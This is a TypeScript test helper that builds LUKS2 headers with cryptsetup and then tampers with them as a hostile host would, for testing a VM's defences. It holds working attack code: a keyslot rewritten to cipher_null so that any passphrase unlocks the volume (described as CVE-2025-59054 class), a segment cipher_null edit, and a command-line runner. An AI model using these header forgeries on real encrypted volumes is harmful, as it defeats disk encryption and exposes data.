/**
 * LUKS2 headers for tests: `formatLuksFile` writes a real one with cryptsetup on a plain file (no
 * device-mapper needed, but root for cryptsetup's lock directory), and the rest does what a hostile
 * host does to one: edit its JSON and recompute both copies' checksums, so the header is valid to
 * cryptsetup. Test helper, and a host-side tool for the VM scenario:
 *
 *   bun agent/testkit/luks-craft.ts FILE keyslot-cipher-null   # any key opens keyslot 0
 *   bun agent/testkit/luks-craft.ts FILE segment-cipher-null
 *
 * keyslot-cipher-null writes a working attack: keyslot 0 becomes cipher_null with one AF stripe
 * holding a volume key the "host" chose (ATTACK_VOLUME_KEY), and the digest is recomputed for it,
 * so cryptsetup 2.6.1 opens the volume with any passphrase (CVE-2025-59054 class).
 */

import { execFileSync } from "node:child_process";
import { createHash, pbkdf2Sync, randomBytes } from "node:crypto";
import { closeSync, openSync, readSync, truncateSync, writeFileSync, writeSync } from "node:fs";

/** A cheap key slot (pbkdf2, 1000 iterations): tests format many headers and never need a real KDF. */
export const FAST_PBKDF = ["--pbkdf", "pbkdf2", "--pbkdf-force-iterations", "1000"];

/**
 * `cryptsetup luksFormat` of a LUKS2 header with a FAST_PBKDF keyslot for `key` (read from stdin)
 * on `file`, which is first made `sizeMiB` MiB of zeros when given; `args` go before the file
 * (e.g. ["--luks2-metadata-size", "64k"]).
 */
export function formatLuksFile(
  file: string,
  key: string | Uint8Array,
  opts: { sizeMiB?: number; args?: string[] } = {},
): string {
  if (opts.sizeMiB !== undefined) {
    writeFileSync(file, "");
    truncateSync(file, opts.sizeMiB * 1024 * 1024);
  }
  execFileSync(
    "cryptsetup",
    ["luksFormat", "-q", "--type", "luks2", ...FAST_PBKDF, ...(opts.args ?? []), "--key-file=-", file],
    { input: key, stdio: ["pipe", "pipe", "pipe"] },
  );
  return file;
}

/** `cryptsetup token import` of `token` (any JSON value, as a host could write) into `file`'s header. */
export function importToken(file: string, token: unknown): void {
  execFileSync("cryptsetup", ["token", "import", "--json-file", "-", file], { input: JSON.stringify(token) });
}

/** Parsed LUKS2 metadata, loosely typed: the point is to write what a hostile host would. */
// biome-ignore lint/suspicious/noExplicitAny: crafted JSON is edited freely
export type Json = Record<string, any>;

const CHECKSUM_OFFSET = 448;
const BIN = 4096;

/** `length` bytes of `file` at `offset`. */
export function readAt(file: string, offset: number, length: number): Buffer {
  const fd = openSync(file, "r");
  try {
    const buf = Buffer.alloc(length);
    readSync(fd, buf, 0, length, offset);
    return buf;
  } finally {
    closeSync(fd);
  }
}

/** Overwrites `file` at `offset` with `bytes`. */
export function writeAt(file: string, offset: number, bytes: Uint8Array): void {
  const fd = openSync(file, "r+");
  try {
    writeSync(fd, bytes, 0, bytes.length, offset);
  } finally {
    closeSync(fd);
  }
}

/** hdr_size of the primary binary header (both copies' size). */
export const hdrSizeOf = (file: string) => Number(readAt(file, 8, 8).readBigUInt64BE(0));

export function readJson(file: string): Json {
  const area = readAt(file, BIN, hdrSizeOf(file) - BIN);
  const end = area.indexOf(0);
  return JSON.parse(area.subarray(0, end < 0 ? area.length : end).toString());
}

/** Replace the JSON of both header copies (checksums recomputed, seqid kept: both stay valid). */
export function writeJson(
  file: string,
  json: unknown,
  which: "both" | "primary" | "secondary" = "both",
): void {
  const size = hdrSizeOf(file);
  const text = Buffer.from(typeof json === "string" ? json : JSON.stringify(json));
  if (text.length >= size - BIN)
    throw new Error(`JSON of ${text.length} bytes does not fit hdr_size ${size}`);
  for (const offset of which === "both" ? [0, size] : which === "primary" ? [0] : [size]) {
    const area = readAt(file, offset, size);
    area.fill(0, BIN);
    text.copy(area, BIN);
    area.fill(0, CHECKSUM_OFFSET, CHECKSUM_OFFSET + 64);
    createHash("sha256").update(area).digest().copy(area, CHECKSUM_OFFSET);
    writeAt(file, offset, area);
  }
}

export function editJson(file: string, edit: (json: Json) => void): void {
  const json = readJson(file);
  edit(json);
  writeJson(file, json);
}

/** The volume key the attacking host puts in the cipher_null keyslot (it knows it, so it reads every write). */
export const ATTACK_VOLUME_KEY = Buffer.alloc(64, 0x41);

/**
 * Keyslot 0 as cipher_null with one AF stripe: the AF merge of one stripe is the stripe itself,
 * and cipher_null "decrypts" to the stored bytes whatever the passphrase, so any key yields
 * ATTACK_VOLUME_KEY; the digest is recomputed so cryptsetup accepts that key.
 */
export function nullKeyslotAttack(file: string, volumeKey = ATTACK_VOLUME_KEY): void {
  editJson(file, (j) => {
    const ks = j.keyslots["0"];
    ks.key_size = volumeKey.length;
    ks.af.stripes = 1;
    ks.area.encryption = "cipher_null-ecb";
    ks.area.key_size = 0;
    writeAt(file, Number(ks.area.offset), volumeKey);
    const d = j.digests["0"];
    const salt = randomBytes(32);
    d.salt = salt.toString("base64");
    d.digest = pbkdf2Sync(volumeKey, salt, d.iterations, 32, d.hash).toString("base64");
  });
}

if (import.meta.main) {
  const [file, attack] = process.argv.slice(2);
  if (!file || !attack) {
    console.error("usage: luks-craft.ts FILE keyslot-cipher-null|segment-cipher-null");
    process.exit(2);
  }
  if (attack === "keyslot-cipher-null") nullKeyslotAttack(file);
  else if (attack === "segment-cipher-null")
    editJson(file, (j) => {
      j.segments["0"].encryption = "cipher_null-ecb";
    });
  else {
    console.error(`unknown attack ${attack}`);
    process.exit(2);
  }
}
